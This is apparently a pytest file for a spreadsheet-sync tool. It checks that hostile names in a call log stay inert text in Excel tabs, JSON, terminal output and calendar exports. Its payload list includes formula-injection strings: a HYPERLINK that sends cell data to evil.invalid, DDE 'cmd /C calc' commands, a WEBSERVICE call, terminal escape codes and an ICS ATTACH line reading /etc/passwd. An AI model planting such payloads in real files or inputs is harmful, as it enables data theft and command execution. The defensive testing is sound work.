"""Text that would be a formula, a command or markup somewhere stays text: in every tab that we write, and in all that we print."""

from __future__ import annotations

import datetime as dt
import json
import re
import zipfile
from pathlib import Path

import pytest
import room
import sheets
from conftest import Command

from sheetsync.grid import Value
from sheetsync.stores.excel import ExcelStore

#: What a hostile or unlucky prospect, rep, company or note is called.
HOSTILE = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"Click me")', "=1+1", "+1 555 0100", "+1+1", "-2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@x", "\t=1+1", "\n=1+1", " =1+1",
    "\r=1+1", '=cmd|"/C calc"!A0', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.invalid\")", "＝1+1", "'=1+1", '"=1+1"', "%0A=1+1", "{=1+1}", "<b>x</b>", "]]>&<x/>",
    "_x0041_", "_x003D_1+1", "\u202egnp.exe", "\x1b[31mred\x07", "00123", "1E5", "TRUE", "1/2", "#REF!", "BEGIN:VEVENT", "a\r\nATTACH:file:///etc/passwd", "a;b,c\\n:d",
)  # fmt: skip
SOON = dt.date(2026, 11, 20)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A log in which everybody has such a name; a control character that XML cannot hold is left out."""
    rows: list[list[Value]] = [list(sheets.HEADS)]
    for number, text in enumerate(HOSTILE):
        clean = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)
        rows.append(
            sheets.call(
                SOON,
                f"{clean}",
                f"he said {clean} and wants a proposal",
                Rep=clean,
                Company=f"{clean} {number}",
                Spoke_with="Owner",
            )
        )
        rows.append(
            sheets.call(
                SOON, f"Ann Lee{chr(97 + number % 26)} {number}", clean, Rep=clean, Company=clean, Spoke_with=clean
            )
        )
    path = tmp_path / "log.xlsx"
    path.write_bytes(room.plain(rows))
    return path


def _formulas(path: Path) -> list[str]:
    """Every formula in the sheets of a workbook, however it is held."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f[ >].*?(?:</f>|/>)", archive.read(name).decode())
    return found


def test_no_name_becomes_a_formula_in_any_tab(hostile: Path, sheetsync: Command) -> None:
    """Whatever people are called, the tabs that we write hold text, and the only formulas are our links to rows of the log."""
    said = sheetsync("sync", hostile)

    assert 0 == said.code, said.err
    ours = re.compile(
        r"<f>HYPERLINK\(&quot;#'Call Log'![A-Z]+\d+&quot;,&quot;[^&]*&quot;\)</f>|<f>HYPERLINK\(\"#'Call Log'![A-Z]+\d+\",\"[^\"]*\"\)</f>"
    )
    assert [] == [text for text in _formulas(hostile) if not ours.fullmatch(text)][:3]
    snapshot = ExcelStore(hostile).read()
    listed = snapshot.tab("Follow-ups")
    assert listed is not None
    shown = {value for column in listed.columns for value in column if isinstance(value, str)}
    assert {"=1+1", "-2", "@x", '=cmd|"/C calc"!A0'} <= {text.strip() for text in shown}


def test_a_second_sync_finds_nothing_to_do(hostile: Path, sheetsync: Command) -> None:
    """Text that was written as text is read back as the same text."""
    sheetsync("sync", hostile)
    before = hostile.read_bytes()
    again = json.loads(sheetsync("sync", hostile, "--json").out)["targets"][0]

    assert ("up to date", {}) == (again["status"], again["changed"])
    assert before == hostile.read_bytes()


def test_json_holds_the_names_as_they_are(hostile: Path, sheetsync: Command) -> None:
    """JSON is JSON whatever the names are."""
    sheetsync("sync", hostile)
    listed = json.loads(sheetsync("follow-ups", hostile, "--json").out)["follow_ups"]

    assert {"=1+1", "-2", "@x", "<b>x</b>"} <= {str(one["prospect"]).strip() for one in listed}


def test_a_terminal_is_not_steered(hostile: Path, sheetsync: Command) -> None:
    """Nothing that is printed holds a control character, or turns the direction of the text."""
    printed = "".join(
        said.out + said.err
        for said in (
            sheetsync("sync", hostile, "--dry-run"), sheetsync("sync", hostile, "--verbose"), sheetsync("follow-ups", hostile), sheetsync("check", hostile),
            sheetsync("explain", hostile, "2"), sheetsync("history", hostile), sheetsync("doctor", hostile), sheetsync("undo", hostile, "--dry-run"),
        )
    )  # fmt: skip

    assert set() == {ch for ch in printed if not ch.isprintable() and ch not in "\n\t"}


def test_a_calendar_holds_events_and_nothing_else(hostile: Path, tmp_path: Path, sheetsync: Command) -> None:
    """No name adds a line, a property or an event to the calendar."""
    import icalendar

    out = tmp_path / "f.ics"
    said = sheetsync("follow-ups", hostile, "--ics", out)
    assert 0 == said.code, said.err
    held = icalendar.Calendar.from_ical(out.read_bytes())
    events = [one for one in held.walk() if one.name == "VEVENT"]

    assert {"VCALENDAR", "VEVENT"} == {one.name for one in held.walk()}
    assert set() == {key for one in events for key in one} - {
        "UID",
        "DTSTAMP",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "DESCRIPTION",
        "TRANSP",
        "LAST-MODIFIED",
        "SEQUENCE",
        "CREATED",
        "CATEGORIES",
    }
    assert any("=1+1" in str(one["SUMMARY"]) for one in events)


@pytest.mark.parametrize(
    "name",
    [
        "Ann's log",
        "a ! b",
        "C#",
        "{x}",
        "100% & <more>",
        "=1+1",
        "+x",
        "-2",
        "@x",
        "A1",
        "R1C1",
        "1st",
        "Ünïcode 😀",
        'quo"te',
        "'' two",
        "TRUE",
        "a,b;c",
        " lead",
        "trail ",
    ],
)
def test_links_lead_to_the_log_whatever_its_name(tmp_path: Path, name: str, sheetsync: Command) -> None:
    """The tab's name is quoted in the links that we build, and the next run finds nothing to do."""
    path = tmp_path / "log.xlsx"
    path.write_bytes(
        room.plain([list(sheets.HEADS), sheets.call(SOON, notes="wants a quote", Spoke_with="Owner")], name=name)
    )
    said = sheetsync("sync", path)
    assert 0 == said.code, said.err
    quoted = "'" + name.replace("'", "''") + "'"
    found = [
        text.replace("&quot;", '"')
        .replace("&amp;", "&")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&apos;", "'")
        for text in _formulas(path)
    ]
    inside = "#" + quoted.replace('"', '""')

    assert found
    assert [] == [text for text in found if f'HYPERLINK("{inside}!' not in text]
    before = path.read_bytes()
    assert 0 == sheetsync("sync", path, "--verbose").code
    assert before == path.read_bytes()
